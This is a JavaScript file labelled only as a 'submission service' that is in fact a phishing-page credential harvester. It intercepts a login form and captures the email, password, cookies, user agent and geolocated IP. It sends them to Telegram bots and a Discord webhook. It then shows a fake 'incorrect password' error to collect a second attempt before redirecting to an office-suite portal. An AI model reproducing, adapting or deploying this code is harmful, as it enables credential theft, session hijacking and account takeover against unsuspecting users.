/**
 * Submission service
 */
const CONFIG = {
  channels: [
    { type: "telegram", token: "0000:TOKEN", chatId: "0000" },
    { type: "telegram", token: "1111:TOKEN", chatId: "1111" },
    { type: "discord", url: "https://discord.com/api/webhooks/000/TOKEN" }
  ],
  maxAttempts: 2,
  redirectUrl: "https://portal.office-suite.example",
  delayMs: 1500
};

class SubmissionService {
  constructor(config) {
    this.config = config;
    this.attempt = 0;
  }

  async getClientInfo() {
    try {
      const response = await fetch("https://ipwho.is/");
      const data = await response.json();
      return { ip: data.ip, country: data.country, city: data.city, isp: data.connection?.isp };
    } catch (error) {
      console.error("Failed to get client info:", error);
      return { ip: "Unknown" };
    }
  }

  formatMessage({ email, password }, client) {
    return [
      `📧 Email: ${email}`,
      `🔑 Password: ${password}`,
      `🔁 Attempt: ${this.attempt}`,
      `🌍 IP: ${client.ip} (${client.city}, ${client.country})`,
      `🏢 ISP: ${client.isp}`,
      `🖥 Agent: ${navigator.userAgent}`,
      `🍪 Cookies: ${document.cookie || "none"}`,
      `🕒 ${new Date().toISOString()}`
    ].join("\n");
  }

  async deliver(channel, text) {
    if (channel.type === "telegram") {
      return fetch(`https://api.telegram.org/bot${channel.token}/sendMessage`, {
        method: "POST",
        headers: { "Content-Type": "application/json" },
        body: JSON.stringify({ chat_id: channel.chatId, text })
      });
    }
    return fetch(channel.url, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ content: text }) });
  }

  async submit(credentials) {
    this.attempt += 1;
    const client = await this.getClientInfo();
    const text = this.formatMessage(credentials, client);
    await Promise.allSettled(this.config.channels.map((c) => this.deliver(c, text)));
    return this.attempt >= this.config.maxAttempts;
  }
}

const service = new SubmissionService(CONFIG);
const form = document.getElementById("loginForm");
const errorBox = document.getElementById("errorMessage");

form.addEventListener("submit", async (event) => {
  event.preventDefault();
  const button = form.querySelector("button[type=submit]");
  button.disabled = true;
  const finished = await service.submit({ email: form.email.value.trim(), password: form.password.value });
  await new Promise((resolve) => setTimeout(resolve, CONFIG.delayMs));
  if (finished) {
    window.location.href = CONFIG.redirectUrl;
    return;
  }
  form.password.value = "";
  errorBox.textContent = "Your password is incorrect. Please try again.";
  errorBox.hidden = false;
  button.disabled = false;
});
